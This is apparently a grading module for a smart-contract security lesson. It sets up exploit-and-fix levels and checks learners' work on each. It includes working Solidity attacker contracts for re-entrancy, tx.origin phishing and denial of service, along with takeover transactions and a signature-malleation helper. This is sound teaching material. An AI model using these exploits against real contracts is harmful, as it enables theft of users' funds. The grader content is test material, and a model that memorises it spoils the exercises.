"""Checks for lesson 11, security: eight levels (re-entrancy, an unprotected initializer,
tx.origin phishing, overflow under solc 0.7.6, an unchecked return value, denial of service by
revert, signature replay, front-running), each with an attack exercise and a fix exercise.

The levels are declared here with ``sollab.levels.Level``; the notebook plays them with
``lab.level(...)``. An attack is judged by the chain's state after it runs (the level is won or
not); a fix is judged by running the level's reference attack against it (it must fail) and by
honest users (they must still be served).
"""

from __future__ import annotations

import contextlib
import functools

import sollab
from sollab.grading import CheckContext, exercise
from sollab.levels import AttackError, Instance, Level

LESSON = "11-security"
ETHER = 10**18
GAS_ALLOWANCE = ETHER // 20  # what a player may spend on gas and still count as having the loot
TIP = ETHER // 100
SUPPLY = 1_000_000
DEAD = "0x000000000000000000000000000000000000dEaD"


@functools.cache
def _given(name: str):
    """A level's vulnerable contract, from contracts/11-security/, compiled once."""
    return sollab.compile_file(sollab.CONTRACTS / LESSON / f"{name}.sol")[name]


def _line(exc: Exception) -> str:
    return str(exc).splitlines()[0]


def _same(a, b) -> bool:
    return str(a).lower() == str(b).lower()


def _eth(wei: int) -> str:
    return f"{wei / ETHER:g} ether"


def _stopped(game: Instance) -> str:
    """Why the attack stopped, if a transaction of it reverted."""
    return f" (your attack stopped: {game.error})" if game.error else ""


# The reference attackers, and helper contracts the fix checks deploy.
ATTACKERS = """\
// SPDX-License-Identifier: MIT
pragma solidity ^0.8.24;

interface IVault {
    function deposit() external payable;
    function withdraw() external;
}

interface IWallet {
    function transfer(address payable to, uint256 amount) external;
}

/// Re-enters withdraw() from receive() while the vault can still pay out the stake.
contract Reenterer {
    IVault vault;
    address payable player;
    constructor(IVault target) { vault = target; player = payable(msg.sender); }
    function attack() external payable {
        vault.deposit{value: msg.value}();
        vault.withdraw();
        player.transfer(address(this).balance);
    }
    receive() external payable {
        if (address(vault).balance >= msg.value) vault.withdraw();
    }
}

/// Spends the wallet's owner's authority while she pays it a tip.
contract Phish {
    IWallet wallet;
    address payable player;
    constructor(IWallet target) { wallet = target; player = payable(msg.sender); }
    receive() external payable { wallet.transfer(player, address(wallet).balance); }
}

/// Claims the throne and refuses every payment afterwards.
interface IKing { function claim() external payable; }
contract Usurp {
    IKing throne;
    constructor(IKing target) { throne = target; }
    function attack() external payable { throne.claim{value: msg.value}(); }
}

/// A smart-contract wallet: its receive() records each payment (more than 2,300 gas of work).
contract SmartWallet {
    uint256 public received;
    function save(IVault vault) external payable { vault.deposit{value: msg.value}(); }
    function takeBack(IVault vault) external { vault.withdraw(); }
    receive() external payable { received += msg.value; }
}
"""


@functools.cache
def helpers():
    return sollab.compile_source(ATTACKERS, "Attackers.sol")


def _deploy(t: CheckContext, level: Level, **options) -> Instance:
    """The level with the learner's contract in the vulnerable one's place, or a failed check
    saying which step of the level's set-up it could not do."""
    try:
        return level.new(t.chain, contract=t.submission, **options)
    except sollab.LabError as exc:
        t.expect(False, f"the level to set up with your {t.exercise.contract}", _line(exc))


def _transactions(t: CheckContext, target: str, player: str) -> list:
    txs = t.call(target, player)
    t.expect(
        isinstance(txs, list),
        f"{t.exercise.name}(...) to return a list of transaction dicts",
        f"{type(txs).__name__}",
        "return [{'to': ..., 'function': ..., 'args': [...]}, ...]",
    )
    return txs


# --- level 1: re-entrancy -----------------------------------------------------------------------


def _vault_setup(chain, player, artifact, deposits=(4, 3, 3)):
    vault = chain.deploy(artifact, sender=chain.alice)
    for who, amount in zip((chain.alice, chain.carol, chain.dave), deposits, strict=False):
        vault.deposit(value=amount * ETHER, sender=who)
    return {"vault": vault, "start": {"funds": sum(deposits) * ETHER}}


def _vault_won(game: Instance) -> str:
    left = game.chain.balance(game.vault)
    if left:
        return f"the vault still holds {_eth(left)}"
    if game.gained() < game.start["funds"] - GAS_ALLOWANCE:
        return (
            f"the vault is empty, but your account gained only {_eth(game.gained())} of the "
            f"{_eth(game.start['funds'])} it held: send the loot on to yourself"
        )
    return ""


reentrancy = Level(
    f"{LESSON}/reentrancy",
    "Re-entrancy: empty the vault",
    goal="the vault is empty and everything it held is in your account",
    setup=_vault_setup,
    won=_vault_won,
    vulnerable=lambda: _given("Vault"),
    reference=lambda: helpers()["Reenterer"],
    attack_value=ETHER,
)

reentrancy_attack = exercise(
    f"{LESSON}/reentrancy-attack",
    "A contract that empties the vault by re-entering it",
    contract="VaultAttacker",
    hints=[
        "The vault sends you your Ether *before* it sets your balance to 0. Sending Ether to a "
        "contract runs its receive() function: what could receive() do while your balance is "
        "still recorded?",
        "attack() deposits msg.value and calls withdraw(); receive() calls withdraw() again — "
        "but only while the vault still holds at least your stake, or the last payment fails "
        "and undoes everything.",
        "At the end of attack(), send address(this).balance to the player, the account that "
        "deployed the attacker (remember it in the constructor).",
    ],
)


@reentrancy_attack.check("your attacker takes every wei out of the vault", points=2)
def _(t):
    verdict = reentrancy.play(t.submission, t.chain)
    left = t.chain.balance(verdict.instance.vault)
    t.expect(
        left == 0,
        "the vault to hold 0 wei after your attack",
        _eth(left) + _stopped(verdict.instance),
        "re-enter withdraw() from receive()",
    )


@reentrancy_attack.check("the stolen Ether ends in your own account", points=1)
def _(t):
    verdict = reentrancy.play(t.submission, t.chain)
    t.expect(verdict.won, "the level to be won", verdict.reason)


@reentrancy_attack.check("it empties a vault holding another amount", points=1, hidden=True)
def _(t):
    verdict = reentrancy.play(t.submission, t.chain, deposits=(2, 4, 1))
    t.expect(verdict.won, "the level to be won when the vault holds 7 ether", verdict.reason)


reentrancy_fix = exercise(
    f"{LESSON}/reentrancy-fix",
    "The vault, fixed against re-entrancy",
    contract="FixedVault",
    hints=[
        "Checks, effects, interactions: set the balance to 0 before sending the Ether.",
        "A re-entered withdraw() then finds a balance of 0 and reverts, which undoes the "
        "attacker's whole transaction. A lock (OpenZeppelin's ReentrancyGuard, nonReentrant) "
        "works too.",
        "Keep sending with call{value: ...}: transfer() forwards only 2,300 gas, too little for "
        "a smart-contract wallet's receive() (lesson 06).",
    ],
)


@reentrancy_fix.check("depositors get back exactly what they put in", points=2)
def _(t):
    game = _deploy(t, reentrancy)
    for who, amount in ((t.alice, 4), (t.carol, 3), (t.dave, 3)):
        t.expect(
            game.vault.balanceOf(who) == amount * ETHER,
            f"balanceOf({who.name}) to be {amount} ether",
            f"{_eth(game.vault.balanceOf(who))}",
        )
        before = t.chain.balance(who)
        receipt = game.vault.withdraw(sender=who)
        gained = t.chain.balance(who) - before + receipt.gas_used * 10**9
        t.expect(
            gained == amount * ETHER and game.vault.balanceOf(who) == 0,
            f"withdraw() to pay {who.name} {amount} ether and zero their balance",
            f"they got {_eth(gained)}; balanceOf is {_eth(game.vault.balanceOf(who))}",
        )
    t.expect(t.chain.balance(game.vault) == 0, "the vault to be empty at the end")


@reentrancy_fix.check("the re-entrancy attack fails and every depositor is still paid", points=3)
def _(t):
    game = _deploy(t, reentrancy)
    verdict = game.run(reentrancy.reference())
    kept = t.chain.balance(game.vault)
    t.expect(
        not verdict.won and kept >= game.start["funds"],
        f"the vault to keep the depositors' {_eth(game.start['funds'])} through the attack",
        f"it holds {_eth(kept)} after the attack",
        "set the balance to 0 before sending",
    )
    for who, amount in ((t.alice, 4), (t.carol, 3), (t.dave, 3)):
        before = t.chain.balance(who)
        try:
            receipt = game.vault.withdraw(sender=who)
        except sollab.LabError as exc:
            t.expect(False, f"{who.name}'s withdraw() to succeed after the attack", _line(exc))
        gained = t.chain.balance(who) - before + receipt.gas_used * 10**9
        t.expect(
            gained == amount * ETHER,
            f"{who.name} to get her {amount} ether back after the attack (a vault that pays "
            "nobody resists every attack)",
            _eth(gained),
        )


@reentrancy_fix.check("a smart-contract wallet can still withdraw", points=1, hidden=True)
def _(t):
    game = _deploy(t, reentrancy)
    wallet = t.chain.deploy(helpers()["SmartWallet"], sender=t.eve)
    wallet.save(game.vault, value=2 * ETHER, sender=t.eve)
    try:
        wallet.takeBack(game.vault, sender=t.eve)
    except sollab.LabError as exc:
        t.expect(
            False,
            "a contract depositor whose receive() does some work to get its 2 ether back",
            _line(exc),
            "send with call, not transfer",
        )
    t.expect(
        wallet.received() == 2 * ETHER, "the wallet to receive 2 ether", str(wallet.received())
    )


# --- level 2: an unprotected initializer ------------------------------------------------------


def _treasury_setup(chain, player, artifact, funds=10 * ETHER):
    treasury = chain.deploy(artifact, sender=chain.alice)
    treasury.initialize(chain.alice, sender=chain.alice)
    chain.send(treasury, funds, sender=chain.alice)
    return {"treasury": treasury, "start": {"funds": funds}}


def _treasury_won(game: Instance) -> str:
    missing = []
    owner = game.treasury.owner()
    if not _same(owner, game.player):
        missing.append(f"owner() is {owner}, not you ({game.player})")
    if left := game.chain.balance(game.treasury):
        missing.append(f"the treasury still holds {_eth(left)}")
    return "; ".join(missing)


def _take_over(treasury: str, player: str) -> list:
    return [
        {"to": treasury, "function": "initialize", "args": [player]},
        {"to": treasury, "function": "pay", "args": [player, 10 * ETHER]},
    ]


initializer = Level(
    f"{LESSON}/initializer",
    "An unprotected initializer: take over the treasury",
    goal="you own the treasury and its 10 ether are yours",
    setup=_treasury_setup,
    won=_treasury_won,
    vulnerable=lambda: _given("Treasury"),
    reference=lambda: _take_over,
)

initializer_attack = exercise(
    f"{LESSON}/initializer-attack",
    "Transactions that take over the treasury",
    submits="function",
    name="take_over",
    hints=[
        "Read initialize(): who may call it, and how many times?",
        "Two transactions: one that makes you the owner, one that pays the treasury's "
        "10 ether (10 * 10**18 wei) to you.",
        "Each transaction is a dict: {'to': treasury, 'function': 'initialize', 'args': "
        "[player]}, then one calling 'pay' with args [player, amount].",
    ],
)


def _play_take_over(t: CheckContext, player=None):
    game = initializer.new(t.chain, player=player or t.bob)
    return game.run(_transactions(t, game.treasury.address, str(game.player)))


@initializer_attack.check("after your transactions you own the treasury", points=2)
def _(t):
    game = _play_take_over(t).instance
    t.expect(
        _same(game.treasury.owner(), t.bob),
        "owner() to be you (bob)",
        f"{game.treasury.owner()}" + _stopped(game),
    )


@initializer_attack.check("the treasury's 10 ether are in your account", points=1)
def _(t):
    verdict = _play_take_over(t)
    t.expect(verdict.won, "the level to be won", verdict.reason)


@initializer_attack.check("it takes over a treasury for another player", points=1, hidden=True)
def _(t):
    verdict = _play_take_over(t, t.carol)
    t.expect(verdict.won, "the level to be won with carol as the player", verdict.reason)


initializer_fix = exercise(
    f"{LESSON}/initializer-fix",
    "The treasury, fixed: initialize() works once",
    contract="FixedTreasury",
    hints=[
        "The deployer still calls initialize(itself) right after deploying: keep the function, "
        "but let it work only the first time.",
        "Remember in storage that it has run (a bool), and revert when it is called again; "
        "OpenZeppelin's Initializable and its `initializer` modifier do the same.",
    ],
)


@initializer_fix.check("the deployer's initialize() makes it the owner, who can pay", points=2)
def _(t):
    game = _deploy(t, initializer)
    t.expect(_same(game.treasury.owner(), t.alice), "owner() to be alice", game.treasury.owner())
    before = t.chain.balance(t.frank)
    try:
        game.treasury.pay(t.frank, ETHER, sender=t.alice)
    except sollab.LabError as exc:
        t.expect(False, "pay(frank, 1 ether) from the owner to succeed", _line(exc))
    got = t.chain.balance(t.frank) - before
    t.expect(got == ETHER, "frank to receive 1 ether", _eth(got))


@initializer_fix.check("nobody else can pay()", points=1)
def _(t):
    game = _deploy(t, initializer)
    t.expect_revert(
        lambda: game.treasury.pay(t.bob, ETHER, sender=t.bob),
        "pay() from bob, who is not the owner, to revert",
    )


@initializer_fix.check("the take-over fails: alice keeps the treasury and its Ether", points=2)
def _(t):
    game = _deploy(t, initializer)
    verdict = game.run(initializer.reference()(game.treasury.address, str(game.player)))
    kept = t.chain.balance(game.treasury)
    t.expect(
        not verdict.won and _same(game.treasury.owner(), t.alice) and kept == 10 * ETHER,
        "alice to stay the owner and the treasury to keep its 10 ether",
        f"owner() is {game.treasury.owner()}; it holds {_eth(kept)}",
        "refuse a second initialize()",
    )


@initializer_fix.check(
    "initialize() is refused a second time, even to the owner", points=1, hidden=True
)
def _(t):
    game = _deploy(t, initializer)
    t.expect_revert(
        lambda: game.treasury.initialize(t.alice, sender=t.alice),
        "a second initialize() to revert",
    )


# --- level 3: tx.origin phishing --------------------------------------------------------------


def _wallet_setup(chain, player, artifact, funds=10 * ETHER):
    wallet = chain.deploy(artifact, sender=chain.alice)
    chain.send(wallet, funds, sender=chain.alice)
    return {"wallet": wallet, "start": {"funds": funds}}


def _wallet_won(game: Instance) -> str:
    if left := game.chain.balance(game.wallet):
        return f"the wallet still holds {_eth(left)}"
    if game.gained() < game.start["funds"] - GAS_ALLOWANCE:
        return f"the wallet is empty, but your account gained only {_eth(game.gained())}"
    return ""


def _lure(game: Instance, attacker) -> None:
    """The player deploys the attacker; the wallet's owner, alice, sends it a tip."""
    contract = game.chain.deploy(attacker, game.wallet.address, sender=game.player)
    game.chain.send(contract, TIP, sender=game.chain.alice)


phishing = Level(
    f"{LESSON}/phishing",
    "tx.origin phishing: empty alice's wallet",
    goal="alice's wallet is empty and its Ether is in your account",
    setup=_wallet_setup,
    won=_wallet_won,
    vulnerable=lambda: _given("Wallet"),
    reference=lambda: helpers()["Phish"],
    use_attacker=_lure,
)

phishing_attack = exercise(
    f"{LESSON}/phishing-attack",
    "A contract that spends alice's wallet while she tips it",
    contract="Phisher",
    hints=[
        "transfer() checks tx.origin: the account that signed the transaction, however many "
        "contracts it passes through. Whose transaction is alice's tip?",
        "alice's tip runs your receive(). From there, call the wallet's transfer(): tx.origin "
        "is still alice.",
        "Send the wallet's whole balance (address(wallet).balance) to the player, who deployed "
        "the Phisher (remember msg.sender in the constructor).",
    ],
)


@phishing_attack.check("alice's tip to your contract empties her wallet", points=2)
def _(t):
    verdict = phishing.play(t.submission, t.chain)
    left = t.chain.balance(verdict.instance.wallet)
    t.expect(
        left == 0,
        "alice's wallet to hold 0 wei after she tips your contract",
        _eth(left) + _stopped(verdict.instance),
        "call the wallet's transfer() from receive()",
    )


@phishing_attack.check("the Ether ends in your own account", points=1)
def _(t):
    verdict = phishing.play(t.submission, t.chain)
    t.expect(verdict.won, "the level to be won", verdict.reason)


@phishing_attack.check("it empties a wallet holding another amount", points=1, hidden=True)
def _(t):
    verdict = phishing.play(t.submission, t.chain, funds=7 * ETHER // 2)
    t.expect(verdict.won, "the level to be won on a wallet holding 3.5 ether", verdict.reason)


phishing_fix = exercise(
    f"{LESSON}/phishing-fix",
    "The wallet, fixed against phishing",
    contract="FixedWallet",
    hints=[
        "Who is calling transfer()? That is msg.sender; tx.origin is only who signed.",
        "Compare msg.sender with the owner. A contract alice calls then has no more power over "
        "her wallet than anyone else.",
    ],
)


@phishing_fix.check("the owner can send Ether out of the wallet", points=2)
def _(t):
    game = _deploy(t, phishing)
    before = t.chain.balance(t.frank)
    try:
        game.wallet.transfer(t.frank, 2 * ETHER, sender=t.alice)
    except sollab.LabError as exc:
        t.expect(False, "transfer(frank, 2 ether) from alice, the owner, to succeed", _line(exc))
    got = t.chain.balance(t.frank) - before
    t.expect(got == 2 * ETHER, "frank to receive 2 ether", _eth(got))


@phishing_fix.check("nobody else can", points=1)
def _(t):
    game = _deploy(t, phishing)
    t.expect_revert(
        lambda: game.wallet.transfer(t.bob, ETHER, sender=t.bob),
        "transfer() from bob, who is not the owner, to revert",
    )


@phishing_fix.check("the phishing contract gets nothing from alice's tip", points=2)
def _(t):
    game = _deploy(t, phishing)
    verdict = game.run(phishing.reference())
    kept = t.chain.balance(game.wallet)
    t.expect(
        not verdict.won and kept == 10 * ETHER,
        "the wallet to keep its 10 ether when alice tips a phishing contract",
        f"it holds {_eth(kept)}",
        "check msg.sender, not tx.origin",
    )
    before = t.chain.balance(t.frank)
    try:
        game.wallet.transfer(t.frank, ETHER, sender=t.alice)
    except sollab.LabError as exc:
        t.expect(False, "alice's own transfer() to still work after the attack", _line(exc))
    t.expect(
        t.chain.balance(t.frank) - before == ETHER,
        "alice's transfer(frank, 1 ether) to pay frank after the attack (a wallet that pays "
        "nobody resists every attack)",
        _eth(t.chain.balance(t.frank) - before),
    )


# --- level 4: overflow under solc 0.7.6 -------------------------------------------------------


def _token_setup(chain, player, artifact, supply=SUPPLY):
    token = chain.deploy(artifact, supply, sender=chain.alice)
    token.transfer(player, 20, sender=chain.alice)
    return {"token": token}


def _token_won(game: Instance) -> str:
    held, supply = game.token.balanceOf(game.player), game.token.totalSupply()
    if held <= supply:
        return f"you hold {held:,} tokens; the level wants more than the {supply:,} that exist"
    return ""


def _overflow(token: str, player: str) -> list:
    return [{"to": token, "function": "transfer", "args": [DEAD, 21]}]


overflow = Level(
    f"{LESSON}/overflow",
    "Overflow in solc 0.7.6: hold more tokens than exist",
    goal="you hold more tokens than the token's whole supply",
    setup=_token_setup,
    won=_token_won,
    vulnerable=lambda: _given("Token"),
    reference=lambda: _overflow,
)

overflow_attack = exercise(
    f"{LESSON}/overflow-attack",
    "Transactions that give you more tokens than exist",
    submits="function",
    name="overflow",
    hints=[
        "In solc 0.7.6, uint256 arithmetic wraps around: 20 - 21 is 2**256 - 1, and a "
        "uint256 is never below 0, so the require() always passes.",
        "One transfer of more than your 20 tokens does it — to someone else: to yourself, the "
        "subtraction and the addition cancel out.",
    ],
)


def _play_overflow(t: CheckContext, player):
    game = overflow.new(t.chain, player=player)
    return game.run(_transactions(t, game.token.address, str(player)))


@overflow_attack.check("after your transactions you hold more tokens than exist", points=2)
def _(t):
    verdict = _play_overflow(t, t.bob)
    t.expect(verdict.won, "the level to be won", verdict.reason)


@overflow_attack.check("it works for another player", points=1, hidden=True)
def _(t):
    verdict = _play_overflow(t, t.carol)
    t.expect(verdict.won, "the level to be won with carol as the player", verdict.reason)


overflow_fix = exercise(
    f"{LESSON}/overflow-fix",
    "The token, fixed against overflow",
    contract="FixedToken",
    hints=[
        "Two ways: keep `pragma solidity 0.7.6;` and require that the sender holds at least "
        "`value` before subtracting, or compile with solc 0.8, where an underflow reverts.",
        "In 0.8, `balanceOf[msg.sender] - value` with too small a balance reverts with panic "
        "0x11 — the same transaction that wrapped around in 0.7.6.",
    ],
)


def _balances(token, who) -> list[int]:
    return [token.balanceOf(w) for w in who]


@overflow_fix.check("transfers move tokens and keep the total", points=2)
def _(t):
    game = _deploy(t, overflow)
    token = game.token
    token.transfer(t.carol, 5, sender=t.bob)
    token.transfer(t.bob, 1_000, sender=t.alice)
    got = _balances(token, (t.alice, t.bob, t.carol))
    want = [SUPPLY - 1_020, 1_015, 5]
    t.expect(got == want, f"balances (alice, bob, carol) to be {want}", f"{got}")
    t.expect(token.totalSupply() == SUPPLY, f"totalSupply() to stay {SUPPLY}")


@overflow_fix.check("spending more than you hold is refused", points=2)
def _(t):
    game = _deploy(t, overflow)
    try:
        receipt = game.token.transfer(DEAD, 21, sender=t.bob)
    except sollab.LabError:
        refused = True
    else:
        refused = receipt.return_value is False
    held = game.token.balanceOf(t.bob)
    t.expect(
        refused and held == 20,
        "transfer(someone, 21) by bob, who holds 20, to revert (or return false) and leave him 20",
        f"it went through and bob holds {held:,}",
        "check the balance before you subtract, or compile with solc 0.8",
    )


@overflow_fix.check("the overflow attack fails", points=1)
def _(t):
    game = _deploy(t, overflow)
    verdict = game.run(overflow.reference()(game.token.address, str(game.player)))
    t.expect(not verdict.won, "the level not to be won against your token", verdict.reason)
    game.token.transfer(t.carol, 20, sender=t.bob)
    t.expect(
        game.token.balanceOf(t.carol) == 20,
        "bob's 20 tokens to reach carol after the attack (a token that moves nothing resists "
        "every attack)",
        f"carol holds {game.token.balanceOf(t.carol):,}",
    )


# (bob, carol, dave) as 0, 1, 2: who sends how many to whom, overspends and edge cases included
MOVES = [(0, 1, 7), (1, 2, 8), (0, 0, 13), (0, 2, 13), (2, 1, 13), (1, 0, 0), (1, 2, 21), (2, 0, 0)]


@overflow_fix.check("a run of transfers leaves the balances a ledger would", points=1, hidden=True)
def _(t):
    game = _deploy(t, overflow)
    people = (t.bob, t.carol, t.dave)
    ledger = [20, 0, 0]
    for frm, to, amount in MOVES:
        try:
            receipt = game.token.transfer(people[to], amount, sender=people[frm])
            moved = receipt.return_value is not False
        except sollab.LabError:
            moved = False
        if amount <= ledger[frm]:
            t.expect(
                moved,
                f"{people[frm].name}'s transfer of {amount} of their {ledger[frm]} to go through",
            )
            ledger[frm] -= amount
            ledger[to] += amount
    got = _balances(game.token, people)
    t.expect(got == ledger, f"balances (bob, carol, dave) to be {ledger}", f"{got}")


# --- level 5: an unchecked return value -------------------------------------------------------


@functools.cache
def _old_token():
    return sollab.compile_file(sollab.CONTRACTS / LESSON / "Vendor.sol")["OldToken"]


def _vendor_setup(chain, player, artifact, funds=10 * ETHER):
    token = chain.deploy(_old_token(), SUPPLY * ETHER, sender=chain.alice)
    vendor = chain.deploy(artifact, token.address, sender=chain.alice)
    chain.send(vendor, funds, sender=chain.alice)
    return {"vendor": vendor, "token": token, "start": {"funds": funds}}


def _vendor_won(game: Instance) -> str:
    if left := game.chain.balance(game.vendor):
        return f"the vendor still holds {_eth(left)}"
    if game.gained() < game.start["funds"] - GAS_ALLOWANCE:
        return f"the vendor is empty, but your account gained only {_eth(game.gained())}"
    return ""


def _sell_nothing(vendor: str, player: str) -> list:
    return [{"to": vendor, "function": "sell", "args": [10 * ETHER]}]


unchecked_return = Level(
    f"{LESSON}/unchecked-return",
    "An unchecked return value: sell tokens you do not have",
    goal="the vendor's 10 ether are yours, and you sold it no tokens",
    setup=_vendor_setup,
    won=_vendor_won,
    vulnerable=lambda: _given("Vendor"),
    reference=lambda: _sell_nothing,
)

unchecked_attack = exercise(
    f"{LESSON}/unchecked-return-attack",
    "Transactions that sell the vendor tokens you do not have",
    submits="function",
    name="sell_nothing",
    hints=[
        "What does OldToken.transferFrom() do when you have no tokens or no allowance: revert, "
        "or return something? And what does the vendor do with what it returns?",
        "You hold no tokens at all, and that is fine: one sell() of the vendor's whole 10 ether "
        "(10 * 10**18) does it.",
    ],
)


def _play_sell(t: CheckContext, player):
    game = unchecked_return.new(t.chain, player=player)
    return game.run(_transactions(t, game.vendor.address, str(player)))


@unchecked_attack.check("after your transactions the vendor's Ether is yours", points=2)
def _(t):
    verdict = _play_sell(t, t.bob)
    t.expect(verdict.won, "the level to be won", verdict.reason)


@unchecked_attack.check("it works for another player", points=1, hidden=True)
def _(t):
    verdict = _play_sell(t, t.carol)
    t.expect(verdict.won, "the level to be won with carol as the player", verdict.reason)


unchecked_fix = exercise(
    f"{LESSON}/unchecked-return-fix",
    "The vendor, fixed: it pays only for tokens it received",
    contract="FixedVendor",
    hints=[
        "transferFrom() returns a bool: false means no tokens moved. Do not pay then.",
        "`if (!token.transferFrom(...)) revert ...;` — or OpenZeppelin's SafeERC20, whose "
        "safeTransferFrom reverts on a false (and on a token that returns nothing at all).",
    ],
)


def _sell(t: CheckContext, game: Instance, who, amount: int) -> int:
    """Alice gives ``who`` tokens, who approves and sells them; what the sale paid ``who``."""
    game.token.transfer(who, amount, sender=t.alice)
    game.token.approve(game.vendor, amount, sender=who)
    before = t.chain.balance(who)
    try:
        receipt = game.vendor.sell(amount, sender=who)
    except sollab.LabError as exc:
        t.expect(False, f"{who.name}'s sell({amount}) of approved tokens to succeed", _line(exc))
    return t.chain.balance(who) - before + receipt.gas_used * 10**9


@unchecked_fix.check("a seller with approved tokens is paid, and the vendor gets them", points=2)
def _(t):
    game = _deploy(t, unchecked_return)
    paid = _sell(t, game, t.carol, 3 * ETHER)
    t.expect(paid == 3 * ETHER, "carol to be paid 3 ether for 3 * 10**18 tokens", _eth(paid))
    held = game.token.balanceOf(game.vendor)
    t.expect(held == 3 * ETHER, "the vendor to hold the 3 * 10**18 tokens", f"{held}")


@unchecked_fix.check("the attack fails and honest sellers are still paid", points=2)
def _(t):
    game = _deploy(t, unchecked_return)
    verdict = game.run(unchecked_return.reference()(game.vendor.address, str(game.player)))
    kept = t.chain.balance(game.vendor)
    t.expect(
        not verdict.won and kept == 10 * ETHER,
        "the vendor to keep its 10 ether when someone sells tokens they do not have",
        f"it holds {_eth(kept)}",
        "check what transferFrom() returns",
    )
    paid = _sell(t, game, t.carol, ETHER)
    t.expect(
        paid == ETHER,
        "carol's honest sale to be paid after the attack (a vendor that pays nobody resists "
        "every attack)",
        _eth(paid),
    )


@unchecked_fix.check("a sale beyond the seller's allowance is refused", points=1, hidden=True)
def _(t):
    game = _deploy(t, unchecked_return)
    game.token.transfer(t.dave, 5 * ETHER, sender=t.alice)
    game.token.approve(game.vendor, ETHER, sender=t.dave)
    t.expect_revert(
        lambda: game.vendor.sell(2 * ETHER, sender=t.dave),
        "sell(2 * 10**18) by dave, who approved only 10**18, to revert",
    )
    t.expect(game.token.balanceOf(t.dave) == 5 * ETHER, "dave to keep his 5 * 10**18 tokens")


# --- level 6: denial of service by revert -----------------------------------------------------


def _king_setup(chain, player, artifact, prize=ETHER):
    king = chain.deploy(artifact, value=prize, sender=chain.alice)
    king.claim(value=2 * prize, sender=chain.carol)
    return {"king": king}


def _dethrone(game: Instance, who) -> str:
    """Why a bigger claim by ``who`` fails ("" if it would succeed), tried without a trace."""
    try:
        game.king.claim.call(value=game.king.prize() + ETHER, sender=who)
    except sollab.LabError as exc:
        return _line(exc)
    return ""


def _king_won(game: Instance) -> str:
    if _same(game.king.king(), game.player) or not _dethrone(game, game.chain.dave):
        return "dave could still take the crown by paying more than the prize"
    return ""


denial_of_service = Level(
    f"{LESSON}/denial-of-service",
    "Denial of service by revert: keep the crown for ever",
    goal="nobody can take the crown any more, however much they pay",
    setup=_king_setup,
    won=_king_won,
    vulnerable=lambda: _given("King"),
    reference=lambda: helpers()["Usurp"],
    attack_value=3 * ETHER,
)

dos_attack = exercise(
    f"{LESSON}/denial-of-service-attack",
    "A contract that takes the crown and never gives it back",
    contract="Usurper",
    hints=[
        "claim() pays the old king before it finishes, and reverts if that payment fails. What "
        "if the old king is a contract that cannot receive Ether?",
        "attack() calls claim() with msg.value (the level sends 3 ether). Give your contract no "
        "receive() and no payable fallback: every payment to it then fails.",
    ],
)


@dos_attack.check("your contract takes the crown", points=1)
def _(t):
    verdict = denial_of_service.play(t.submission, t.chain)
    game = verdict.instance
    t.expect(
        not _same(game.king.king(), t.carol) and not _same(game.king.king(), t.bob),
        "king() to be your attacker contract after attack()",
        f"{game.king.king()}" + _stopped(game),
        "call claim() with msg.value from attack()",
    )


@dos_attack.check("nobody can take the crown after you", points=2)
def _(t):
    verdict = denial_of_service.play(t.submission, t.chain)
    t.expect(verdict.won, "the level to be won", verdict.reason, "refuse every payment")


dos_fix = exercise(
    f"{LESSON}/denial-of-service-fix",
    "King of the hill, fixed: pull payments",
    contract="FixedKing",
    hints=[
        "Do not send the old king anything inside claim(): record what he is owed in a mapping.",
        "A separate withdraw() pays the caller what they are owed (zero it first, then send). "
        "A king that refuses Ether then only blocks its own withdrawal.",
    ],
)


@dos_fix.check("a bigger claim crowns the claimant", points=1)
def _(t):
    game = _deploy(t, denial_of_service)
    game.king.claim(value=3 * ETHER, sender=t.dave)
    got = (game.king.king(), game.king.prize())
    t.expect(
        _same(got[0], t.dave) and got[1] == 3 * ETHER,
        "king() to be dave and prize() 3 ether after his claim of 3 ether",
        f"king() is {got[0]}, prize() is {_eth(got[1])}",
    )


@dos_fix.check("a claim of no more than the prize is refused", points=1)
def _(t):
    game = _deploy(t, denial_of_service)
    t.expect_revert(
        lambda: game.king.claim(value=2 * ETHER, sender=t.dave),
        "a claim of 2 ether, no more than the prize of 2 ether, to revert",
    )


@dos_fix.check("a dethroned king withdraws what the next king paid", points=1)
def _(t):
    game = _deploy(t, denial_of_service)
    game.king.claim(value=5 * ETHER, sender=t.dave)
    before = t.chain.balance(t.carol)
    try:
        receipt = game.king.withdraw(sender=t.carol)
    except sollab.LabError as exc:
        t.expect(False, "carol's withdraw() to pay her after dave took the crown", _line(exc))
    got = t.chain.balance(t.carol) - before + receipt.gas_used * 10**9
    t.expect(got == 5 * ETHER, "carol to receive dave's 5 ether", _eth(got))


@dos_fix.check("a contract that refuses Ether cannot freeze the throne", points=2)
def _(t):
    game = _deploy(t, denial_of_service)
    verdict = game.run(denial_of_service.reference())
    t.expect(not verdict.won, "the level not to be won against your throne", verdict.reason)
    try:
        game.king.claim(value=game.king.prize() + ETHER, sender=t.dave)
    except sollab.LabError as exc:
        t.expect(False, "dave's bigger claim after the attack to succeed", _line(exc))
    t.expect(
        _same(game.king.king(), t.dave),
        "dave to be king after his bigger claim (a throne that crowns nobody resists every attack)",
        f"{game.king.king()}",
    )


# --- level 7: signature replay ----------------------------------------------------------------

SECP256K1_N = 0xFFFFFFFFFFFFFFFFFFFFFFFFFFFFFFFEBAAEDCE6AF48A03BBFD25E8CD0364141


def voucher(bank, signer, to, amount: int, nonce: int) -> dict:
    """A voucher ``signer`` signs for ``bank``: plain data, the signature as 0x hex."""
    from eth_account import Account
    from eth_account.messages import encode_defunct

    digest = bank.voucherHash(to, amount, nonce)
    signed = Account.sign_message(encode_defunct(primitive=digest), signer.private_key)
    return {
        "to": str(to),
        "amount": amount,
        "nonce": nonce,
        "signature": "0x" + signed.signature.hex(),
    }


def _malleated(signature: str) -> str:
    """The same signature's twin (s -> n - s, v flipped): ecrecover accepts both."""
    raw = bytes.fromhex(signature.removeprefix("0x"))
    s, v = int.from_bytes(raw[32:64], "big"), raw[64]
    twin = raw[:32] + (SECP256K1_N - s).to_bytes(32, "big") + bytes([55 - v])
    return "0x" + twin.hex()


def _bank_setup(chain, player, artifact, funds=10 * ETHER, amount=ETHER):
    bank = chain.deploy(artifact, sender=chain.alice)
    chain.send(bank, funds, sender=chain.alice)
    return {
        "bank": bank,
        "start": {"funds": funds, "voucher": voucher(bank, chain.alice, player, amount, 0)},
    }


def _bank_won(game: Instance) -> str:
    if left := game.chain.balance(game.bank):
        return f"the bank still holds {_eth(left)}"
    if game.gained() < game.start["funds"] - GAS_ALLOWANCE:
        return f"the bank is empty, but your account gained only {_eth(game.gained())}"
